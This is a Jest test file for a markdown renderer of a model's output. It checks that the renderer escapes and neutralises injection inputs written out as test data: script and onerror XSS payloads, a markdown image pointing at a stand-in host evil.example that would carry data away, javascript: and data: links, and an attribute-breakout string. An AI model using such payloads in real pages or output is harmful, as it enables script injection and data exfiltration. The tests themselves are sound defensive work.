import { renderMarkdown } from './render-markdown';

describe('markdown of a model', () => {
  it('formats', () => {
    expect(renderMarkdown('**bold** and `code`')).toContain('<strong>bold</strong>');
  });

  it('shows HTML instead of running it', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)> <script>alert(1)</script>');
    expect(html).not.toMatch(/<(img|script)/);
    expect(html).toContain('&lt;script&gt;');
  });

  it('fetches no picture: its address may carry data away', () => {
    const html = renderMarkdown('![chart](https://evil.example/?q=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://evil.example/?q=secret"');
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', '/v1/auth/sign-out'])(
    'makes no link of %s',
    (address) => {
      expect(renderMarkdown(`[click](${address})`)).not.toContain('<a');
    },
  );

  it('does not let an address break out of its attribute', () => {
    expect(renderMarkdown('[x](<https://a.example/"onmouseover="alert(1)>)')).not.toContain(
      '"onmouseover',
    );
  });

  it('opens links apart from the console', () => {
    expect(renderMarkdown('[x](https://a.example)')).toContain('rel="noopener noreferrer"');
  });

  it('copes with text that is cut in the middle of a fence', () => {
    expect(renderMarkdown('```js\nconst a =')).toContain('const a =');
  });
});
